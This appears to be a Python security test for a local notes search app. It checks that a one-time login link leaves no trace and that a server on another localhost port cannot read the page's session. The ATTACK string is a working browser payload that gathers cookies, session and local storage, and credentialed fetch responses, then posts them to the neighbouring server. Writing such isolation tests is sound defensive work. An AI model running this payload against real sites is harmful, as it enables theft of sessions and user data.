"""How the page is opened, and what another server of the same machine gets to know of it."""

import http.server
import threading
import urllib.error
import urllib.request

from page import OPEN

# What a page of another port can try.
ATTACK = """
<script type="module">
const found = [document.cookie, JSON.stringify({...sessionStorage}), JSON.stringify({...localStorage}), document.referrer];
const channel = new BroadcastChannel("rag-session");
channel.onmessage = ({ data }) => found.push(JSON.stringify(data));
channel.postMessage({ isWanted: true });
for (const path of ["/status", "/search?q=water"]) {
  try {
    found.push(await (await fetch("BASE" + path, { credentials: "include" })).text());
  } catch (error) { found.push("refused"); }
}
const frame = document.createElement("iframe");
frame.src = "BASE/";
document.body.append(frame);
await new Promise((done) => setTimeout(done, 1000));
try { found.push(frame.contentWindow.sessionStorage["rag-session"]); } catch (error) { found.push("refused"); }
const other = window.open("BASE/?q=water");
await new Promise((done) => setTimeout(done, 1000));
try { found.push(other.sessionStorage["rag-session"]); } catch (error) { found.push("refused"); }
await fetch("/found", { method: "POST", body: JSON.stringify(found) });
document.title = "done";
</script>
"""


class Neighbour(http.server.BaseHTTPRequestHandler):
    """A server of somebody else at another port, which keeps whatever it is sent."""

    def do_GET(self):
        self.server.got.append(f"{self.path} {self.headers}")
        body = ATTACK.replace("BASE", self.server.base).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.server.got.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


def links(run):
    """A link opens the page once, and leaves no trace of its code; another tab of the page needs none."""
    link = run.server.link()
    code = link.split("=")[1]
    tab = run.browser.tab()
    tab.expected = ["/session"]
    run.tabs.append(tab)
    tab.open(link)
    tab.wait(OPEN)
    entries = tab.call("Page.getNavigationHistory")["entries"]
    run.check("link: the code is not in the history", not any(code in entry["url"] for entry in entries), entries)
    sent = [event["request"]["url"] for event in tab.requests("/")]
    run.check("link: the code is in no address that is sent", not any(code in url.split("#")[0] for url in sent), sent)
    tab.value("location.reload()")
    tab.wait(OPEN)
    passage = run.get("/search", q="water", limit=1)["passages"][0]
    second = run.browser.tab(beside=tab)
    second.expected = []
    run.tabs.append(second)
    second.open(f"{run.base}/?note={urllib.request.quote(passage['note'])}")
    second.wait("!!document.querySelector('#reader .line')")
    run.check("link: another tab of the page is open too", second.value(OPEN))
    third = run.browser.tab()
    third.expected = ["/session"]
    run.tabs.append(third)
    third.open(link)
    third.wait("!document.getElementById('login').hidden")
    run.check("link: it opens the page once", not third.value(OPEN))


def neighbours(run):
    """A server at another port of this machine gets nothing that opens the notes."""
    tab = run.tab()
    session = tab.value("sessionStorage['rag-session']")
    run.check("neighbour: there is a session", session)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Neighbour)
    server.base, server.got = run.base, []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_port}"
    try:
        # A tab of its own beside the page, and the page's own tab, which follows a link.
        other = run.browser.tab(beside=tab)
        other.open(address + "/")
        other.wait("document.title === 'done'", 30)
        tab.value(f"location.href = '{address}/linked'")
        tab.wait("document.title === 'done'", 30)
    finally:
        server.shutdown()
    got = "\n".join(server.got)
    run.check("neighbour: it was visited", "/linked" in got and "refused" in got, got[:500])
    run.check("neighbour: it gets no session, token or note", not any(
        part in got for part in (session, run.token, "passages", "documents")), got[:2000])
    run.check("neighbour: it gets no cookie", "cookie:" not in got.lower(), got[:2000])
    run.tabs.remove(tab)
    for secret in {word for text in server.got for word in text.replace('"', " ").split() if len(word) > 20}:
        request = urllib.request.Request(run.base + "/status", headers={"Authorization": f"Bearer {secret[:200]}"})
        try:
            status = urllib.request.urlopen(request).status
        except urllib.error.HTTPError as error:
            status = error.code
        run.check("neighbour: nothing it got opens the notes", status == 401, secret)
